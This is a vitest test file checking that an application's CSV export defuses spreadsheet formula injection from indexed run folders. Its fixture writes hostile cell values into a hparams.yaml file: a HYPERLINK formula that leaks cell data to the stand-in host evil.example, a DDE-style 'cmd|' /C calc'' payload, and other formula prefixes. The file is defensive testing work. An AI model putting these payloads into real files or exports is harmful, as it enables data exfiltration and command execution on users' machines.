import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { copyFixture, REPO, tempCore } from '../helpers.js';

/**
 * The compare Diff's CSV export with formula-looking text written by an indexed folder. The renderer
 * module is loaded through a computed path (it compiles under the renderer's tsconfig; see
 * compare.test.ts), so the shapes used are spelled out here.
 */
type CompareRuns = Awaited<ReturnType<Awaited<ReturnType<typeof tempCore>>['api']['runs.compare']>>;
const diffModule = () =>
  import(path.join(REPO, 'renderer/src/components/compare/diff.ts')) as Promise<{
    diffRows: (runs: CompareRuns) => unknown[];
    diffCsv: (runs: CompareRuns, rows: unknown[]) => string;
    csvInert: (text: string) => string;
  }>;

/** A Lightning run folder whose hparams.yaml carries spreadsheet formulas, keys included. */
async function hostileRuns() {
  const project = copyFixture('realruns/lightning_project');
  const v0 = path.join(project, 'lightning_logs', 'version_0');
  fs.appendFileSync(
    path.join(v0, 'hparams.yaml'),
    [
      `note: '=HYPERLINK("http://evil.example/?leak="&A1,"click")'`,
      `cmd: "@SUM(1+1)*cmd|' /C calc'!A0"`,
      `plus: '+1+cmd'`,
      `dash: '-2+3'`,
      `tabbed: "\\t=1+1"`,
      `ret: "\\r=1+1"`,
      `'=key': 1`,
      `offset: -0.5`,
      `tiny: -1.5e-3`,
      `gain: +2`,
      '',
    ].join('\n'),
  );
  const core = await tempCore();
  await core.indexFolders([project]);
  return core.api['runs.compare']({ ids: [v0, path.join(project, 'lightning_logs', 'version_2')] });
}

const paramLine = (csv: string, key: string) => csv.split('\r\n').find((l) => l.startsWith(`Params,${key},`) || l.startsWith(`Params,"${key}`));

describe('compare Diff CSV export', () => {
  it('prefixes formula-looking cells with a quote and leaves plain numbers alone', async () => {
    const { diffRows, diffCsv } = await diffModule();
    const runs = await hostileRuns();
    const csv = diffCsv(runs, diffRows(runs));
    expect(paramLine(csv, 'note')).toBe(`Params,note,yes,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",`);
    expect(paramLine(csv, 'cmd')).toBe(`Params,cmd,yes,'@SUM(1+1)*cmd|' /C calc'!A0,`);
    expect(paramLine(csv, 'plus')).toBe(`Params,plus,yes,'+1+cmd,`);
    expect(paramLine(csv, 'dash')).toBe(`Params,dash,yes,'-2+3,`);
    expect(paramLine(csv, 'tabbed')).toBe(`Params,tabbed,yes,'\t=1+1,`);
    expect(paramLine(csv, 'ret')).toBe(`Params,ret,yes,"'\r=1+1",`);
    // The key is untrusted too.
    expect(csv).toContain(`\r\nParams,'=key,yes,1,\r\n`);
    // Negative and signed numbers stay numbers a spreadsheet can add up.
    expect(paramLine(csv, 'offset')).toBe('Params,offset,yes,-0.5,');
    expect(paramLine(csv, 'tiny')).toBe('Params,tiny,yes,-1.5e-3,');
    expect(paramLine(csv, 'gain')).toMatch(/^Params,gain,yes,\+?2,$/);
    // No cell of the export starts a formula.
    for (const line of csv.trimEnd().split('\r\n')) expect(line).not.toMatch(/(^|,)"?[=@]/);
  });

  it('treats only plain decimal numbers as numbers', async () => {
    const { csvInert } = await diffModule();
    const kept = ['-0.5', '-3', '+1e-3', '-.5', '-7.', '0', 'plain', ''];
    expect(kept.map(csvInert)).toEqual(kept);
    const formulas = ['-Infinity', '-0x1F', '- 1', '-1-1', '=1', '@a', '\t1', '\r1', '+A1'];
    expect(formulas.map(csvInert)).toEqual(formulas.map((t) => `'${t}`));
  });
});
